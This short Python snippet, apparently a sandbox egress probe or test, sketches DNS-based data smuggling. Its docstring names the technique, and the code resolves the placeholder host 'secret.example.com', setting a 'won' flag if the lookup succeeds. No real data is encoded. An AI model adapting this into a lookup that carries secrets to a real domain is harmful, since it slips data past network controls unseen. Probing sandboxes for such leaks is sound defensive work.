"""Smuggles data out in a name that is looked up."""

import socket

won = False
try:
    socket.setdefaulttimeout(0.3)
    won = bool(socket.getaddrinfo("secret.example.com", 80))
except OSError:
    won = False
